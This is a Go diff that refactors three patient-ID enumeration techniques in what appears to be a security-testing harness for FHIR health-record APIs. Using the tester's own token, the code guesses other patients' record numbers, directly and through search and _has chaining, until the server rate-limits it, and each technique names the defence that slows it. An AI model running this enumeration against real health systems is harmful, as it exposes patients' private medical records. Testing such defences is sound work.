@@ -16,22 +16,7 @@ var _ = register("F-13", Technique{
 	Has:    []event.Asset{event.OwnClient},
 	Beyond: beyondObjects + " One that turns away whoever keeps missing makes guessing slow.",
 	Run: func(ctx context.Context, g Ground) error {
-		a, t, err := ownToken(ctx, g)
-		if err != nil {
-			return err
-		}
-		// The last of the strangers has the highest number that is of use; he begins well above it.
-		const above = 24
-		for _, id := range numbersDownTo(g.Target().Patients[len(g.Target().Patients)-1], above) {
-			ans, err := a.read(ctx, record(g, id), t)
-			if err != nil {
-				return err
-			}
-			if ans.ok() || ans.status == http.StatusTooManyRequests {
-				return nil
-			}
-		}
-		return nil
+		return guessNumbers(ctx, g, aboveAll, func(id string) string { return record(g, id) })
 	},
 })
 
@@ -44,21 +29,9 @@ var _ = register("F-13/behind-a-hit", Technique{
 	Has:    []event.Asset{event.OwnClient},
 	Beyond: beyondObjects + " One that counts whoever was named and not found makes guessing slow.",
 	Run: func(ctx context.Context, g Ground) error {
-		a, t, err := ownToken(ctx, g)
-		if err != nil {
-			return err
-		}
-		const above = 24
-		for _, id := range numbersDownTo(g.Target().Patients[len(g.Target().Patients)-1], above) {
-			ans, err := a.read(ctx, g.Target().FHIRBase+"/Patient?_id="+g.Target().OwnPatient+","+id, t)
-			if err != nil {
-				return err
-			}
-			if ans.status == http.StatusTooManyRequests {
-				return nil
-			}
-		}
-		return nil
+		return guessNumbers(ctx, g, aboveAll, func(id string) string {
+			return g.Target().FHIRBase + "/Patient?_id=" + g.Target().OwnPatient + "," + id
+		})
 	},
 })
 
@@ -71,23 +44,35 @@ var _ = register("F-13/chained", Technique{
 	Has:    []event.Asset{event.OwnClient},
 	Beyond: beyondObjects + " One that bounds how much a caller may ask in a minute makes guessing slow.",
 	Run: func(ctx context.Context, g Ground) error {
-		a, t, err := ownToken(ctx, g)
+		const above = 122 // more guesses than an API that counts lets through
+		return guessNumbers(ctx, g, above, func(id string) string {
+			return g.Target().FHIRBase + "/Practitioner?_summary=count&_has:Patient:general-practitioner:_id=" + id
+		})
+	},
+})
+
+// aboveAll is how far above the highest number that is of use he begins: well beyond how often an API that counts
+// misses lets him miss.
+const aboveAll = 24
+
+// guessNumbers asks about one number after the other, down to that of the last of the strangers, until he has been
+// through them or is turned away.
+func guessNumbers(ctx context.Context, g Ground, above int, about func(id string) string) error {
+	a, t, err := ownToken(ctx, g)
+	if err != nil {
+		return err
+	}
+	for _, id := range numbersDownTo(lastStranger(g), above) {
+		ans, err := a.read(ctx, about(id), t)
 		if err != nil {
 			return err
 		}
-		const above = 122 // more guesses than an API that counts lets through
-		for _, id := range numbersDownTo(g.Target().Patients[len(g.Target().Patients)-1], above) {
-			ans, err := a.read(ctx, g.Target().FHIRBase+"/Practitioner?_summary=count&_has:Patient:general-practitioner:_id="+id, t)
-			if err != nil {
-				return err
-			}
-			if ans.status == http.StatusTooManyRequests {
-				return nil
-			}
+		if ans.status == http.StatusTooManyRequests {
+			return nil
 		}
-		return nil
-	},
-})
+	}
+	return nil
+}
 
 // numbersDownTo lists ids like the given one, from some numbers above it downwards.
 func numbersDownTo(id string, above int) (out []string) {
